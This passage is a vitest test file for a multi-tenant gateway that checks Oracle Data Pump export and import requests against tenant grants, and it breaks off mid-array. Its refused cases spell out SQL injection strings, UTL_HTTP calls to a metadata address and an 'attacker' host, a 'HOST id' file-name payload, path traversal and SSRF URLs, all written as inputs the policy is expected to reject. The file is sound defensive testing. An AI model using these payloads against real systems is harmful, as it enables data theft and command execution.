// The policy, table-driven: accepted requests with their canonical upstream form beside refused ones with status and pointers.
import { describe, expect, it } from 'vitest';

import {
  evaluatePolicy,
  type JobRequest,
  type PolicyLimits,
  type TenantPolicy,
} from '../../../src/gateway/policy/index.js';
import { items, osUri, type TenantKey, TENANTS, TIMESTAMP } from './fixtures.js';

type Input = { tenant: TenantKey | TenantPolicy; request: Record<string, unknown>; limits?: Partial<PolicyLimits> };
/** Either the exact upstream request, or the status with every violation as `kind pointer`. */
type Expected = { upstream: Record<string, unknown> } | { status: 403 | 422; violations: string[] };
type Case = [why: string, input: Input, expected: Expected];

const ok = (upstream: Record<string, unknown>): Expected => ({ upstream });
const refused = (status: 403 | 422, ...violations: string[]): Expected => ({ status, violations });
const EXPORT = { operation: 'EXPORT' } as const;
const IMPORT = { operation: 'IMPORT' } as const;
const HR_DEFAULTS = { datapump_dir: 'DATA_PUMP_DIR', file_name: `HR_${TIMESTAMP}_%U.DMP` };
const HR_SCHEMA = { schema_expressions: items("IN ('HR')") };
const hrExport = (extra: Record<string, unknown>) => ({ operation: 'EXPORT', ...HR_DEFAULTS, ...extra });
const names = (count: number, width = 6) =>
  Array.from({ length: count }, (_, i) => `'N${String(i).padStart(width - 1, '0')}'`).join(',');
const hrObject = (file_name: string, operation = 'EXPORT') => ({
  tenant: 'hr' as const,
  request: { operation, credential_name: 'HR_OBJ_CRED', file_name },
});
const name129 = `A${'B'.repeat(128)}`;

const accepted: Case[] = [
  [
    'keep_master (ORDS 25.4+) is passed on as it is, last',
    { tenant: 'hr', request: { ...EXPORT, keep_master: 0 } },
    ok(hrExport({ ...HR_SCHEMA, keep_master: 0 })),
  ],
  [
    'keep_master 1 on an IMPORT',
    { tenant: 'hr', request: { ...IMPORT, file_name: 'HR_X.DMP', keep_master: 1 } },
    ok({ operation: 'IMPORT', datapump_dir: 'DATA_PUMP_DIR', file_name: 'HR_X.DMP', ...HR_SCHEMA, keep_master: 1 }),
  ],
  [
    "an EXPORT naming nothing gets the directory, a prefixed file name and the tenant's schema",
    { tenant: 'hr', request: EXPORT },
    ok(hrExport(HR_SCHEMA)),
  ],
  [
    'the canonical IN form passes unchanged',
    { tenant: 'hr', request: { ...EXPORT, schema_expressions: items("IN ('HR')") } },
    ok(hrExport(HR_SCHEMA)),
  ],
  [
    "Oracle's own example IN ( 'HR' ) is canonicalised",
    { tenant: 'hr', request: { ...EXPORT, schema_expressions: items("IN ( 'HR' )") } },
    ok(hrExport(HR_SCHEMA)),
  ],
  [
    'lowercase keywords, extra spaces and duplicates are normalised',
    { tenant: 'hr', request: { ...EXPORT, schema_expressions: items("  in (  'HR' ,'HR'  )  ") } },
    ok(hrExport(HR_SCHEMA)),
  ],
  [
    'IN without any space',
    { tenant: 'hr', request: { ...EXPORT, schema_expressions: items("IN('HR')") } },
    ok(hrExport(HR_SCHEMA)),
  ],
  [
    '= on a granted schema',
    { tenant: 'hr', request: { ...EXPORT, schema_expressions: items("=   'HR'") } },
    ok(hrExport({ schema_expressions: items("= 'HR'") })),
  ],
  [
    "Oracle's example !='EMP' on names becomes != 'EMP'",
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("!='EMP'") } },
    ok(hrExport({ name_expressions: items("!= 'EMP'"), ...HR_SCHEMA })),
  ],
  [
    '<> becomes !=',
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("<> 'EMP'") } },
    ok(hrExport({ name_expressions: items("!= 'EMP'"), ...HR_SCHEMA })),
  ],
  [
    "Oracle's example LIKE 'EMP%' on names",
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("LIKE 'EMP%'") } },
    ok(hrExport({ name_expressions: items("LIKE 'EMP%'"), ...HR_SCHEMA })),
  ],
  [
    'NOT LIKE with a leading wildcard, any keyword case',
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("not  Like '%_TMP'") } },
    ok(hrExport({ name_expressions: items("NOT LIKE '%_TMP'"), ...HR_SCHEMA })),
  ],
  [
    'LIKE directly followed by its pattern',
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("LIKE'_MP$'") } },
    ok(hrExport({ name_expressions: items("LIKE '_MP$'"), ...HR_SCHEMA })),
  ],
  [
    'LIKE % on object names (the schema stays pinned)',
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("LIKE '%'") } },
    ok(hrExport({ name_expressions: items("LIKE '%'"), ...HR_SCHEMA })),
  ],
  [
    'NOT IN on names keeps order and drops duplicates',
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("NOT IN('EMP','DEPT','EMP')") } },
    ok(hrExport({ name_expressions: items("NOT IN ('EMP','DEPT')"), ...HR_SCHEMA })),
  ],
  [
    '$ and # are identifier characters',
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("IN ('A$B','C#D','E_1')") } },
    ok(hrExport({ name_expressions: items("IN ('A$B','C#D','E_1')"), ...HR_SCHEMA })),
  ],
  [
    'several name expressions are kept in order (Data Pump ANDs them)',
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("!='EMP'", "!= 'DEPT'") } },
    ok(hrExport({ name_expressions: items("!= 'EMP'", "!= 'DEPT'"), ...HR_SCHEMA })),
  ],
  [
    'a 128-byte name is the longest accepted',
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items(`= '${'N'.repeat(128)}'`) } },
    ok(hrExport({ name_expressions: items(`= '${'N'.repeat(128)}'`), ...HR_SCHEMA })),
  ],
  [
    'TABLE mode with one schema',
    {
      tenant: 'hr',
      request: {
        ...EXPORT,
        job_mode: 'TABLE',
        schema_expressions: items("= 'HR'"),
        name_expressions: items("IN ('EMP')"),
      },
    },
    ok({
      operation: 'EXPORT',
      job_mode: 'TABLE',
      ...HR_DEFAULTS,
      name_expressions: items("IN ('EMP')"),
      schema_expressions: items("= 'HR'"),
    }),
  ],
  [
    "TABLE mode without a schema expression gets the tenant's single schema",
    { tenant: 'hr', request: { ...EXPORT, job_mode: 'TABLE', name_expressions: items("= 'EMP'") } },
    ok({ operation: 'EXPORT', job_mode: 'TABLE', ...HR_DEFAULTS, name_expressions: items("= 'EMP'"), ...HR_SCHEMA }),
  ],
  [
    'an explicit SCHEMA mode is kept',
    { tenant: 'hr', request: { ...EXPORT, job_mode: 'SCHEMA' } },
    ok({ operation: 'EXPORT', job_mode: 'SCHEMA', ...HR_DEFAULTS, ...HR_SCHEMA }),
  ],
  [
    'a granted tablespace',
    { tenant: 'hr', request: { ...EXPORT, tablespace_expressions: items("IN('HR_DATA')") } },
    ok(hrExport({ ...HR_SCHEMA, tablespace_expressions: items("IN ('HR_DATA')") })),
  ],
  [
    'threads at the tenant cap',
    { tenant: 'hr', request: { ...EXPORT, threads: 4 } },
    ok(hrExport({ threads: 4, ...HR_SCHEMA })),
  ],
  [
    'a prefixed file name with %U',
    { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_WEEKLY_%U.DMP' } },
    ok(hrExport({ file_name: 'HR_WEEKLY_%U.DMP', ...HR_SCHEMA })),
  ],
  [
    "Oracle's reference file name, prefixed",
    { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_EXPDAT%U2019-03-25-12_55_03.DMP' } },
    ok(hrExport({ file_name: 'HR_EXPDAT%U2019-03-25-12_55_03.DMP', ...HR_SCHEMA })),
  ],
  [
    "Oracle's reference file name for a tenant exempt from the prefix",
    { tenant: 'dba', request: { ...EXPORT, file_name: 'EXPDAT%U2019-03-25-12_55_03.DMP' } },
    ok({ operation: 'EXPORT', file_name: 'EXPDAT%U2019-03-25-12_55_03.DMP' }),
  ],
  [
    '%u and %L substitution variables',
    { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_%u-%L.dmp' } },
    ok(hrExport({ file_name: 'HR_%u-%L.dmp', ...HR_SCHEMA })),
  ],
  [
    'an IMPORT of a prefixed file, remapped into a granted target',
    {
      tenant: 'hr',
      request: { ...IMPORT, file_name: 'HR_2024.DMP', remap_schemas: [{ source: 'HR', target: 'HR_TEST' }] },
    },
    ok({
      operation: 'IMPORT',
      datapump_dir: 'DATA_PUMP_DIR',
      file_name: 'HR_2024.DMP',
      ...HR_SCHEMA,
      remap_schemas: [{ source: 'HR', target: 'HR_TEST' }],
    }),
  ],
  [
    "a remap within the tenant's own schemas",
    { tenant: 'hr', request: { ...IMPORT, file_name: 'HR_2024.DMP', remap_schemas: [{ source: 'HR', target: 'HR' }] } },
    ok({
      operation: 'IMPORT',
      datapump_dir: 'DATA_PUMP_DIR',
      file_name: 'HR_2024.DMP',
      ...HR_SCHEMA,
      remap_schemas: [{ source: 'HR', target: 'HR' }],
    }),
  ],
  [
    'object storage on a granted bucket (legacy host form)',
    hrObject(osUri('hr-exports', 'HR_%U.DMP')),
    ok({
      operation: 'EXPORT',
      datapump_dir: 'DATA_PUMP_DIR',
      file_name: osUri('hr-exports', 'HR_%U.DMP'),
      credential_name: 'HR_OBJ_CRED',
      ...HR_SCHEMA,
    }),
  ],
  [
    'object storage on the dedicated-namespace host form, in a pseudo-folder',
    hrObject(
      'https://acme.objectstorage.eu-frankfurt-1.oci.customer-oci.com/n/acme/b/hr-exports/o/weekly/HR_%U.DMP',
      'IMPORT',
    ),
    ok({
      operation: 'IMPORT',
      datapump_dir: 'DATA_PUMP_DIR',
      file_name:
        'https://acme.objectstorage.eu-frankfurt-1.oci.customer-oci.com/n/acme/b/hr-exports/o/weekly/HR_%U.DMP',
      credential_name: 'HR_OBJ_CRED',
      ...HR_SCHEMA,
    }),
  ],
  [
    'the legacy filter becomes a schema expression and is dropped',
    { tenant: 'hr', request: { ...EXPORT, filter: 'HR' } },
    ok(hrExport(HR_SCHEMA)),
  ],
  [
    'a legacy filter list with spaces around commas',
    { tenant: 'dba', request: { ...EXPORT, filter: ' HR , SALES,HR ' } },
    ok({ operation: 'EXPORT', schema_expressions: items("IN ('HR','SALES')") }),
  ],
  [
    'the legacy filter in TABLE mode lists tables',
    { tenant: 'hr', request: { ...EXPORT, job_mode: 'TABLE', filter: 'EMP,DEPT' } },
    ok({
      operation: 'EXPORT',
      job_mode: 'TABLE',
      ...HR_DEFAULTS,
      name_expressions: items("IN ('EMP','DEPT')"),
      ...HR_SCHEMA,
    }),
  ],
  [
    'the legacy filter is ANDed after the given schema expressions',
    { tenant: 'dba', request: { ...EXPORT, schema_expressions: items("IN ('HR','SALES')"), filter: 'HR' } },
    ok({ operation: 'EXPORT', schema_expressions: items("IN ('HR','SALES')", "IN ('HR')") }),
  ],
  [
    'FULL mode for a tenant granted it and every schema',
    { tenant: 'dba', request: { ...EXPORT, job_mode: 'FULL' } },
    ok({ operation: 'EXPORT', job_mode: 'FULL' }),
  ],
  [
    'TABLESPACE mode for an admin',
    { tenant: 'dba', request: { ...EXPORT, job_mode: 'TABLESPACE', tablespace_expressions: items("= 'USERS'") } },
    ok({ operation: 'EXPORT', job_mode: 'TABLESPACE', tablespace_expressions: items("= 'USERS'") }),
  ],
  [
    'a 30-byte tablespace name',
    { tenant: 'dba', request: { ...EXPORT, tablespace_expressions: items(`IN ('${'T'.repeat(30)}')`) } },
    ok({ operation: 'EXPORT', tablespace_expressions: items(`IN ('${'T'.repeat(30)}')`) }),
  ],
  [
    'schemas ["*"]: any schema by name, nothing injected',
    { tenant: 'dba', request: { ...EXPORT, schema_expressions: items("IN ('HR','SALES')") } },
    ok({ operation: 'EXPORT', schema_expressions: items("IN ('HR','SALES')") }),
  ],
  [
    'schemas ["*"] with no schema expression keeps ORDS\'s default',
    { tenant: 'dba', request: EXPORT },
    ok({ operation: 'EXPORT' }),
  ],
  [
    'an IN list of exactly 1,000 names',
    { tenant: 'dba', request: { ...EXPORT, name_expressions: items(`IN (${names(1000)})`) } },
    ok({ operation: 'EXPORT', name_expressions: items(`IN (${names(1000)})`) }),
  ],
  [
    'an admin remaps into any schema',
    {
      tenant: 'dba',
      request: { ...IMPORT, file_name: 'ANY.DMP', remap_schemas: [{ source: 'HR', target: 'HR_COPY' }] },
    },
    ok({ operation: 'IMPORT', file_name: 'ANY.DMP', remap_schemas: [{ source: 'HR', target: 'HR_COPY' }] }),
  ],
  [
    'several schemas named explicitly; the first directory is injected',
    { tenant: 'fin', request: { ...EXPORT, schema_expressions: items("IN ('GL','AP')") } },
    ok({
      operation: 'EXPORT',
      datapump_dir: 'FIN_DIR',
      file_name: `FIN_${TIMESTAMP}_%U.DMP`,
      schema_expressions: items("IN ('GL','AP')"),
    }),
  ],
  [
    'a granted directory other than the first',
    { tenant: 'fin', request: { ...EXPORT, datapump_dir: 'DATA_PUMP_DIR', schema_expressions: items("= 'AP'") } },
    ok({
      operation: 'EXPORT',
      datapump_dir: 'DATA_PUMP_DIR',
      file_name: `FIN_${TIMESTAMP}_%U.DMP`,
      schema_expressions: items("= 'AP'"),
    }),
  ],
  [
    "an export-only tenant's default export",
    { tenant: 'sales', request: EXPORT },
    ok({
      operation: 'EXPORT',
      datapump_dir: 'DATA_PUMP_DIR',
      file_name: `SALES_${TIMESTAMP}_%U.DMP`,
      schema_expressions: items("IN ('SALES')"),
    }),
  ],
];

const NAME = '/name_expressions/0/expression';
const SCHEMA = '/schema_expressions/0/expression';
const TABLESPACE = '/tablespace_expressions/0/expression';
const badName = (why: string, expression: string, tenant: TenantKey = 'hr'): Case => [
  why,
  { tenant, request: { ...EXPORT, name_expressions: items(expression) } },
  refused(422, `unsafe ${NAME}`),
];
const badSchema = (why: string, expression: string, status: 403 | 422): Case => [
  why,
  { tenant: 'hr', request: { ...EXPORT, schema_expressions: items(expression) } },
  refused(status, `${status === 403 ? 'not-granted' : 'unsafe'} ${SCHEMA}`),
];

const grammar: Case[] = [
  badSchema('§4.1 widening with a boolean: IN (...) OR 1=1', "IN ('HR') OR 1=1", 422),
  badSchema("§4.1 widening with a boolean: IN (...) OR 'a'='a'", "IN ('HR') OR 'a'='a'", 422),
  badSchema("§4.1 = 'HR' OR 1=1", "= 'HR' OR 1=1", 422),
  badSchema('AND is refused too', "= 'HR' AND 1=1", 422),
  badSchema('§4.3 a sub-query reading the dictionary', 'IN (SELECT username FROM dba_users)', 422),
  badSchema(
    '§4.4 / API7 a function call fetching the metadata address',
    "= UTL_HTTP.REQUEST('http://169.254.169.254/')",
    422,
  ),
  badSchema('§4.4 a concatenated function call', "= UTL_HTTP.REQUEST('http://attacker/'||USER)", 422),
  badSchema('§4.4 a function inside a sub-query', 'IN (SELECT pkg.f() FROM dual)', 422),
  badSchema('EXISTS with a sub-query', 'EXISTS (SELECT 1 FROM dual)', 422),
  badSchema('UNION after a list', "IN ('HR') UNION SELECT 'X' FROM dual", 422),
  badSchema('§4.5 a trailing line comment', "= 'HR' --", 422),
  badSchema('§4.5 a block comment', "= 'HR' /* x */", 422),
  badSchema('§4.5 a statement terminator', "= 'HR'; DROP USER HR", 422),
  badSchema('§4.5 concatenation', "= 'H'||'R'", 422),
  badSchema("§4.5 q'[...]' alternative quoting", "= q'[HR]'", 422),
  badSchema("q'…' at the start", "q'[HR]'", 422),
  badSchema("N'…' national literals", "= N'HR'", 422),
  badSchema('§4.6 literal break-out with a doubled quote', "= 'A''B'", 422),
  badSchema('§4.6 a NUL byte', "= 'HR\u0000'", 422),
  badSchema('§4.6 a newline', "IN ('HR')\n", 422),
  badSchema('a tab', "IN\t('HR')", 422),
  badSchema('a carriage return between words', "IN\r('HR')", 422),
  badSchema('§4.6 full-width look-alike keyword ＩＮ', "ＩＮ ('HR')", 422),
  badSchema('a Cyrillic look-alike letter in a name', "IN ('\u041DR')", 422),
  badSchema('§4.6 a double-quoted identifier', '= "hr"', 422),
  badSchema('lowercase literals are refused, not upper-cased', "IN ('hr')", 422),
  badSchema('a mixed-case literal', "= 'Hr'", 422),
  badSchema('an empty list', 'IN ()', 422),
  badSchema('a trailing comma', "IN ('HR',)", 422),
  badSchema('a missing comma', "IN ('HR' 'X')", 422),
  badSchema('an unclosed list', "IN ('HR'", 422),
  badSchema('an unterminated literal', "= 'HR", 422),
  badSchema('an empty literal', "= ''", 422),
  badSchema('a bare word instead of a literal', '= HR', 422),
  badSchema('a number instead of a literal', '= 1', 422),
  badSchema('IN without parentheses', "IN 'HR'", 422),
  badSchema('NOT glued to IN', "NOTIN ('HR')", 422),
  badSchema('a doubled operator', "== 'HR'", 422),
  badSchema('a second literal after the expression', "= 'HR' 'X'", 422),
  badSchema('an extra closing parenthesis', "IN ('HR'))", 422),
  badSchema('only spaces', '   ', 422),
  badSchema('a 129-byte name', `= '${name129}'`, 422),
  badSchema('a name starting with a digit', "= '1HR'", 422),
  badName('LIKE ... ESCAPE is refused', "LIKE 'A%' ESCAPE '\\'"),
  badName('a % wildcard outside LIKE', "= 'EMP%'"),
  badName('a LIKE pattern starting with $', "LIKE '$A'"),
  badName('IS NULL is not in the grammar', 'IS NULL'),
  badName('BETWEEN is not in the grammar', "BETWEEN 'A' AND 'B'"),
  [
    'an IN list of 1,001 names',
    { tenant: 'dba', request: { ...EXPORT, name_expressions: items(`IN (${names(1001)})`) } },
    refused(422, `unsafe ${NAME}`),
  ],
  [
    'the list cap is configurable',
    { tenant: 'dba', limits: { maxListNames: 2 }, request: { ...EXPORT, name_expressions: items("IN ('A','B','C')") } },
    refused(422, `unsafe ${NAME}`),
  ],
  [
    'the size cap is configurable',
    {
      tenant: 'dba',
      limits: { maxExpressionBytes: 20 },
      request: { ...EXPORT, name_expressions: items("IN ('ABCDEFGHIJKLMNOP')") },
    },
    refused(422, `unsafe ${NAME}`),
  ],
  [
    'the canonical form must fit the size cap too',
    {
      tenant: 'dba',
      limits: { maxExpressionBytes: 16 },
      request: { ...EXPORT, name_expressions: items("IN('ABCDEFGHIJ')") },
    },
    refused(422, `unsafe ${NAME}`),
  ],
  [
    'a 31-byte tablespace name',
    { tenant: 'dba', request: { ...EXPORT, tablespace_expressions: items(`= '${'T'.repeat(31)}'`) } },
    refused(422, `unsafe ${TABLESPACE}`),
  ],
  [
    'every faulty item is reported, each at its own pointer',
    { tenant: 'hr', request: { ...EXPORT, name_expressions: items("= 'EMP'", "= 'A' OR 1=1", 'IN ()') } },
    refused(422, 'unsafe /name_expressions/1/expression', 'unsafe /name_expressions/2/expression'),
  ],
];

const scope: Case[] = [
  badSchema("API1: another tenant's schema", "IN ('SALES')", 403),
  badSchema('API1: one foreign schema among granted ones', "IN ('HR','SALES')", 403),
  badSchema("§4.2 != 'HR' on schemas widens scope: not granted", "!= 'HR'", 403),
  badSchema('§4.2 <> on schemas', "<> 'HR'", 403),
  badSchema('§4.2 NOT IN on schemas', "NOT IN ('SALES')", 403),
  badSchema("§4.2 LIKE '%' on schemas", "LIKE '%'", 403),
  badSchema('NOT LIKE on schemas', "NOT LIKE 'HR%'", 403),
  [
    '!= on schemas is refused even for an admin',
    { tenant: 'dba', request: { ...EXPORT, schema_expressions: items("!= 'SYS'") } },
    refused(403, `not-granted ${SCHEMA}`),
  ],
  [
    "a tablespace outside the tenant's",
    { tenant: 'hr', request: { ...EXPORT, tablespace_expressions: items("IN ('SYSTEM')") } },
    refused(403, `not-granted ${TABLESPACE}`),
  ],
  [
    'a tenant granted no tablespace',
    { tenant: 'sales', request: { ...EXPORT, tablespace_expressions: items("= 'USERS'") } },
    refused(403, `not-granted ${TABLESPACE}`),
  ],
  [
    '!= on tablespaces',
    { tenant: 'hr', request: { ...EXPORT, tablespace_expressions: items("!= 'HR_DATA'") } },
    refused(403, `not-granted ${TABLESPACE}`),
  ],
  [
    'API5 / §4.7: FULL mode for hr-team',
    { tenant: 'hr', request: { ...EXPORT, job_mode: 'FULL' } },
    refused(403, 'not-granted /job_mode'),
  ],
  [
    '§4.7 TABLESPACE mode for hr-team',
    { tenant: 'hr', request: { ...EXPORT, job_mode: 'TABLESPACE', tablespace_expressions: items("= 'HR_DATA'") } },
    refused(403, 'not-granted /job_mode'),
  ],
  [
    'FULL needs every schema even when the mode is listed',
    {
      tenant: { ...TENANTS.hr, jobModes: ['FULL'] },
      request: { ...EXPORT, job_mode: 'FULL' },
    },
    refused(403, 'not-granted /job_mode'),
  ],
  [
    'an absent job_mode means SCHEMA, which must be granted',
    { tenant: { ...TENANTS.hr, jobModes: ['TABLE'] }, request: EXPORT },
    refused(403, 'not-granted /job_mode'),
  ],
  [
    'API5: IMPORT for an export-only tenant',
    { tenant: 'sales', request: { ...IMPORT, file_name: 'SALES_1.DMP' } },
    refused(403, 'not-granted /operation'),
  ],
  [
    'TABLE mode with two schemas (Oracle needs one)',
    { tenant: 'dba', request: { ...EXPORT, job_mode: 'TABLE', schema_expressions: items("IN ('HR','SALES')") } },
    refused(422, `unsafe ${SCHEMA}`),
  ],
  [
    'TABLE mode with two schema expressions',
    { tenant: 'dba', request: { ...EXPORT, job_mode: 'TABLE', schema_expressions: items("= 'HR'", "= 'HR'") } },
    refused(422, 'unsafe /schema_expressions'),
  ],
  [
    'several schemas and no schema expression: nothing to inject',
    { tenant: 'fin', request: EXPORT },
    refused(403, 'not-granted /schema_expressions'),
  ],
  [
    'TABLESPACE mode over several tablespaces without naming them',
    { tenant: 'fin', request: { ...EXPORT, job_mode: 'TABLESPACE', schema_expressions: items("= 'GL'") } },
    refused(403, 'not-granted /tablespace_expressions'),
  ],
  [
    'API1: remapping from a foreign schema',
    { tenant: 'hr', request: { ...IMPORT, file_name: 'HR_1.DMP', remap_schemas: [{ source: 'SALES', target: 'HR' }] } },
    refused(403, 'not-granted /remap_schemas/0/source'),
  ],
  [
    'API1: remapping into a foreign schema',
    { tenant: 'hr', request: { ...IMPORT, file_name: 'HR_1.DMP', remap_schemas: [{ source: 'HR', target: 'SYS' }] } },
    refused(403, 'not-granted /remap_schemas/0/target'),
  ],
  [
    'remap_schemas on an EXPORT',
    { tenant: 'hr', request: { ...EXPORT, remap_schemas: [{ source: 'HR', target: 'HR' }] } },
    refused(422, 'unsafe /remap_schemas'),
  ],
  [
    'a lowercase remap name',
    { tenant: 'hr', request: { ...IMPORT, file_name: 'HR_1.DMP', remap_schemas: [{ source: 'hr', target: 'HR' }] } },
    refused(422, 'unsafe /remap_schemas/0/source'),
  ],
  [
    'API4: threads over the tenant cap',
    { tenant: 'hr', request: { ...EXPORT, threads: 5 } },
    refused(403, 'not-granted /threads'),
  ],
  ['threads of 0', { tenant: 'hr', request: { ...EXPORT, threads: 0 } }, refused(422, 'unsafe /threads')],
  ['fractional threads', { tenant: 'hr', request: { ...EXPORT, threads: 1.5 } }, refused(422, 'unsafe /threads')],
  [
    'API3: a directory the tenant is not granted',
    { tenant: 'hr', request: { ...EXPORT, datapump_dir: 'OTHER_DIR' } },
    refused(403, 'not-granted /datapump_dir'),
  ],
  [
    'a lowercase directory name',
    { tenant: 'hr', request: { ...EXPORT, datapump_dir: 'data_pump_dir' } },
    refused(422, 'unsafe /datapump_dir'),
  ],
  [
    'API3: a credential the tenant is not granted',
    { tenant: 'hr', request: { ...EXPORT, credential_name: 'SYS_CRED', file_name: osUri('hr-exports', 'HR.DMP') } },
    refused(403, 'not-granted /credential_name'),
  ],
  [
    'object storage for a tenant with no credential grant',
    { tenant: 'sales', request: { ...EXPORT, credential_name: 'ANY_CRED', file_name: osUri('hr-exports', 'X.DMP') } },
    refused(403, 'not-granted /credential_name', 'not-granted /file_name'),
  ],
  [
    'a job_mode outside the enum',
    { tenant: 'hr', request: { ...EXPORT, job_mode: 'TRANSPORTABLE' } },
    refused(422, 'unsafe /job_mode'),
  ],
  [
    'an operation outside the enum',
    { tenant: 'hr', request: { operation: 'SQL_FILE' } },
    refused(422, 'unsafe /operation'),
  ],
  [
    'API3: a field outside the contract is refused, not dropped',
    { tenant: 'hr', request: { ...EXPORT, keep_mastr: 1 } },
    refused(422, 'unsafe /keep_mastr'),
  ],
  [
    'keep_master other than 0 or 1 (the contract refuses it first)',
    { tenant: 'hr', request: { ...EXPORT, keep_master: true } },
    refused(422, 'unsafe /keep_master'),
  ],
];

const files: Case[] = [
  [
    '§8.6: a file name breaking out of the SQL script',
    { tenant: 'dba', request: { ...EXPORT, file_name: "X.DMP'); END;" } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    '§8.6: the published HOST payload',
    { tenant: 'hr', request: { ...EXPORT, file_name: "HR_PWN.DMP'); END;\n/\nHOST id\n--" } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    "a file outside the tenant's prefix",
    { tenant: 'hr', request: { ...EXPORT, file_name: 'X.DMP' } },
    refused(403, 'not-granted /file_name'),
  ],
  [
    'the prefix is case-sensitive',
    { tenant: 'hr', request: { ...EXPORT, file_name: 'hr_x.dmp' } },
    refused(403, 'not-granted /file_name'),
  ],
  [
    "API1: importing another tenant's dump",
    { tenant: 'hr', request: { ...IMPORT, file_name: 'SALES_2024.DMP' } },
    refused(403, 'not-granted /file_name'),
  ],
  [
    'a relative path',
    { tenant: 'hr', request: { ...EXPORT, file_name: '../HR_X.DMP' } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    'an absolute path after the prefix',
    { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_/etc/passwd' } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    'a backslash',
    { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_..\\X.DMP' } },
    refused(422, 'unsafe /file_name'),
  ],
  ['a semicolon', { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_X.DMP;' } }, refused(422, 'unsafe /file_name')],
  [
    'a double dash',
    { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_X--.DMP' } },
    refused(422, 'unsafe /file_name'),
  ],
  ['a space', { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_X Y.DMP' } }, refused(422, 'unsafe /file_name')],
  [
    'a double quote',
    { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_"X".DMP' } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    'a line break',
    { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_X.DMP\r\n' } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    'a % that is not a substitution variable',
    { tenant: 'hr', request: { ...EXPORT, file_name: 'HR_%s.DMP' } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    'a name over 255 characters',
    { tenant: 'hr', request: { ...EXPORT, file_name: `HR_${'X'.repeat(253)}` } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    'a name that looks like an option',
    { tenant: 'dba', request: { ...EXPORT, file_name: '-HELP.DMP' } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    'a name starting with a dot',
    { tenant: 'dba', request: { ...EXPORT, file_name: '..DMP' } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    'a URI without credential_name is not a file name',
    { tenant: 'hr', request: { ...EXPORT, file_name: osUri('hr-exports', 'HR.DMP') } },
    refused(422, 'unsafe /file_name'),
  ],
  [
    'API7: the cloud metadata address over http',
    hrObject('http://169.254.169.254/latest/meta-data/'),
    refused(422, 'unsafe /file_name'),
  ],
  [
    'API7: the cloud metadata address over https',
    hrObject('https://169.254.169.254/n/acme/b/hr-exports/o/X'),
    refused(422, 'unsafe /file_name'),
  ],
  [
    'API7: an IP literal in hex',
    hrObject('https://0xa9fea9fe/n/acme/b/hr-exports/o/X'),
    refused(422, 'unsafe /file_name'),
  ],
  ['API7: an IPv6 literal', hrObject('https://[::1]/n/acme/b/hr-exports/o/X'), refused(422, 'unsafe /file_name')],
  [
    'API7: a look-alike host',
    hrObject('https://objectstorage.us-ashburn-1.oraclecloud.com.evil.test/n/acme/b/hr-exports/o/X'),
    refused(422, 'unsafe /file_name'),
  ],
  [
    'API7: a foreign host (customer-managed formats stay off the list)',
    hrObject('https://hr-exports.s3.amazonaws.com/X.DMP'),
    refused(422, 'unsafe /file_name'),
  ],
  [
    'API7: user information',
    hrObject('https://u:p@objectstorage.us-ashburn-1.oraclecloud.com/n/acme/b/hr-exports/o/X'),
    refused(422, 'unsafe /file_name'),
  ],
  [
    'API7: a port',
    hrObject('https://objectstorage.us-ashburn-1.oraclecloud.com:8443/n/acme/b/hr-exports/o/X'),
    refused(422, 'unsafe /file_name'),
  ],
  [
    'API7: even the default port',
    hrObject('https://objectstorage.us-ashburn-1.oraclecloud.com:443/n/acme/b/hr-exports/o/X'),
    refused(422, 'unsafe /file_name'),
  ],
  [
    'API7: a backslash parser differential',
    hrObject('https://objectstorage.us-ashburn-1.oraclecloud.com\\@evil.test/n/acme/b/hr-exports/o/X'),
    refused(422, 'unsafe /file_name'),
  ],
  ['API7: percent-encoded dots', hrObject(osUri('hr-exports', '%2e%2e/%2e%2e/X')), refused(422, 'unsafe /file_name')],
  ['API7: a percent-encoded slash', hrObject(osUri('hr-exports', 'a%2Fb')), refused(422, 'unsafe /file_name')],
  [
    'API7: dot segments (the URL parser would remove them)',
    hrObject(osUri('hr-exports', 'a/../../b/x')),
    refused(422, 'unsafe /file_name'),
  ],
  ['a query string', hrObject(`${osUri('hr-exports', 'X')}?versionId=1`), refused(422, 'unsafe /file_name')],
  ['a fragment', hrObject(`${osUri('hr-exports', 'X')}#f`), refused(422, 'unsafe /file_name')],
  [
    'plain http to the right host',
    hrObject(osUri('hr-exports', 'X').replace('https:', 'http:')),
    refused(422, 'unsafe /file_name'),
  ],
  [
    'an upper-case host (not canonical)',
    hrObject(osUri('hr-exports', 'X').replace('objectstorage', 'OBJECTSTORAGE')),
    refused(422, 'unsafe /file_name'),
  ],
  [
    "a dedicated host whose namespace is not the path's",
    hrObject('https://evil.objectstorage.us-ashburn-1.oci.customer-oci.com/n/acme/b/hr-exports/o/X'),
    refused(422, 'unsafe /file_name'),
  ],
  [
    'a path that is not /n/…/b/…/o/…',
    hrObject('https://objectstorage.us-ashburn-1.oraclecloud.com/p/TOKEN/n/acme/b/hr-exports/o/X'),
    refused(422, 'unsafe /file_name'),
  ],
